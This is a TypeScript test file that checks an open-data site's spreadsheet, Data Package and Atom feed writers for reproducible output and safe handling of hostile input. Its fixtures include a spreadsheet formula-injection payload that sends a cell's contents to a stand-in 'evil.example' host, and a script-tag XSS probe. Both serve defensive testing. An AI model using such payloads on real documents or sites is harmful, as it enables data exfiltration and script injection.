// The spreadsheet, Data Package and feed writers: byte-reproducible whatever the clock says, and plain text with hostile input.
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { dataPackage } from './datapackage.ts';
import { assessmentsOf, tables, type DatasetInput, type StrandLike } from './tables.ts';
import type { Borough } from '../content/schemas/borough.ts';
import { atomFeed, atomDate } from './feed.ts';
import { sheetPlan, workbookBuffer, type XlsxContent } from './xlsx.ts';
import { profileErrors } from '../../tests/support/table-schema.ts';
import { xlsxXmlErrors, xmlTexts } from '../../tests/support/xml.ts';

const FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Click me")';
const CONTROL = 'Bell\u0007 vertical\u000B tab\u0009 nul\u0000 U+FFFF\uFFFF lone\uD83D end';
const CLEAN = 'Bell vertical tab\u0009 nul U+FFFF lone end';

const strands: StrandLike[] = [
  { id: 'organisation', title: 'Partnership organisation', dimensions: [{ id: 'structure', number: 2, title: 'Structure', short: 'Structure', descriptors: { low: 'L', medium: 'M', high: 'H' } }] },
  { id: 'activity', title: 'Partnership activity', dimensions: [{ id: 'rpa', number: 3, title: 'RPA', short: 'RPA', descriptors: { low: 'L', medium: 'M', high: 'H' } }] },
];
const boroughs: Borough[] = [
  { name: 'Borough A', slug: 'borough-a', anonymised: true, assessment: { round: 'r', date: '2012-12', source: 's' }, ratings: { structure: { level: 'high', evidence: FORMULA }, rpa: { level: 'not-mentioned', evidence: CONTROL } } },
  { name: `Name ${CONTROL}`, slug: 'hackney', anonymised: false, assessment: { round: 'r', date: '2012-12', source: 's' }, ratings: { structure: { level: 'low' }, rpa: { level: 'medium' } } },
];
const input: DatasetInput = { strands, rounds: [{ id: 'r', title: `Round ${FORMULA}`, kind: 'research', from: '2012-09', to: '2013-03' }], assessments: assessmentsOf(boroughs), published: { r: { structure: { low: 1, medium: 0, high: 1, 'not-mentioned': 0, tallies: { low: 2 } }, rpa: { low: 0, medium: 1, high: 0, 'not-mentioned': 1 } } } };
const content: XlsxContent = {
  title: 'Atlas', description: `About ${CONTROL}`, publisher: 'Publisher', licence: { name: 'OGL', url: 'https://example.org/ogl' }, version: '1.2.3', released: '2026-11-29',
  homepage: 'https://example.org/data/', notice: 'Sample boroughs.', sources: [{ title: 'Grid', publisher: 'IOE', date: '2013-03' }],
  errata: [{ where: 'Activity', printed: '102', correction: '93', note: `Repeated ${FORMULA}` }], tables: tables(input),
};

afterEach(() => vi.useRealTimers());

describe('the spreadsheet', () => {
  test('is the same bytes whatever the clock and time zone say, every zip entry dated the release', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date('2031-05-06T07:08:09Z'));
    const a = await workbookBuffer(content);
    vi.setSystemTime(new Date('2040-12-31T23:59:59Z'));
    const b = await workbookBuffer(content);
    expect(b.equals(a)).toBe(true);
    const zip = await JSZip.loadAsync(a);
    const dates = new Set(Object.values(zip.files).map((f) => f.date.toISOString()));
    expect([...dates]).toEqual(['2026-11-29T00:00:00.000Z']);
    const core = await zip.file('docProps/core.xml')!.async('string');
    expect(core).toContain('<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-29T00:00:00Z</dcterms:created>');
    expect(core).not.toContain('2031');
  });

  test('keeps a formula as text and drops characters XML forbids, and every part stays valid XML', async () => {
    const bytes = await workbookBuffer(content);
    expect(await xlsxXmlErrors(bytes)).toEqual([]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const ratings = wb.getWorksheet('Ratings')!;
    const cells: ExcelJS.Cell[] = [];
    ratings.eachRow((row) => row.eachCell((c) => cells.push(c)));
    const formula = cells.find((c) => String(c.value).startsWith('=HYPERLINK'))!;
    expect(formula.value).toBe(FORMULA);
    expect(formula.type).toBe(ExcelJS.ValueType.String);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(cells.map((c) => c.value)).toContain(CLEAN);
    expect(cells.map((c) => c.value)).toContain(`Name ${CLEAN}`);
    const zip = await JSZip.loadAsync(bytes);
    for (const name of Object.keys(zip.files).filter((n) => n.startsWith('xl/worksheets/'))) expect(await zip.file(name)!.async('string'), name).not.toContain('<f>');
  });

  test('writes exactly the planned cells: levels as words, empty cells empty, no blank rows', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await workbookBuffer(content)) as unknown as ArrayBuffer);
    for (const sheet of sheetPlan(content)) {
      const ws = wb.getWorksheet(sheet.name)!;
      const width = sheet.header?.length ?? 1;
      const got: unknown[][] = [];
      ws.eachRow({ includeEmpty: true }, (row, n) => (got[n - 1] = Array.from({ length: width }, (_, i) => row.getCell(i + 1).value ?? null)));
      const expected = [[sheet.title, ...Array(width - 1).fill(null)], [sheet.intro, ...Array(width - 1).fill(null)], ...(sheet.header ? [sheet.header] : []), ...sheet.rows];
      expect(got, sheet.name).toEqual(expected);
    }
    const grid = sheetPlan(content).find((s) => s.name === 'Grid')!;
    expect(grid.rows[0]).toEqual(['r', 'Borough A', 'borough-a', true, 'High', 'Not mentioned']);
  });
});

describe('the Data Package', () => {
  test('stays valid JSON and valid against the profile with hostile text, which it keeps as plain text', () => {
    const text = JSON.stringify(dataPackage({ ...content, title: `Atlas ${CONTROL}`, notice: FORMULA }, content.tables));
    const descriptor = JSON.parse(text);
    expect(profileErrors(descriptor)).toEqual([]);
    expect(descriptor.title).toBe(`Atlas ${CLEAN}`);
    expect(descriptor.description).toContain(FORMULA);
  });
});

describe('the feed', () => {
  const meta = { title: `Atlas <b>&</b> ${CONTROL}`, subtitle: 's', home: 'https://example.org/', self: 'https://example.org/feed.xml', author: 'P', rights: 'OGL' };
  test('is well-formed with hostile titles, which read back as the plain text', () => {
    const feed = atomFeed(meta, [{ url: 'https://example.org/a?x=1&y="2"', title: `<script>alert(1)</script> ${FORMULA} ${CONTROL}`, date: '2013', summary: CONTROL, category: 'C' }]);
    expect(xmlTexts(feed, 'title')).toEqual([`Atlas <b>&</b> ${CLEAN}`, `<script>alert(1)</script> ${FORMULA} ${CLEAN}`]);
    expect(xmlTexts(feed, 'summary')).toEqual([CLEAN]);
  });

  test('is dated from the entries, newest first, never from the clock', () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date('2039-01-01T00:00:00Z'));
    const feed = atomFeed(meta, [
      { url: 'https://example.org/old', title: 'Old', date: '2008', summary: 's', category: 'c' },
      { url: 'https://example.org/new', title: 'New', date: '2013-03-19', summary: 's', category: 'c' },
    ]);
    expect(feed).not.toContain('2039');
    expect([...feed.matchAll(/<updated>([^<]+)<\/updated>/g)].map((m) => m[1])).toEqual(['2013-03-19T00:00:00Z', '2013-03-19T00:00:00Z', '2008-01-01T00:00:00Z']);
    expect(atomDate('2012-12')).toBe('2012-12-01T00:00:00Z');
  });
});
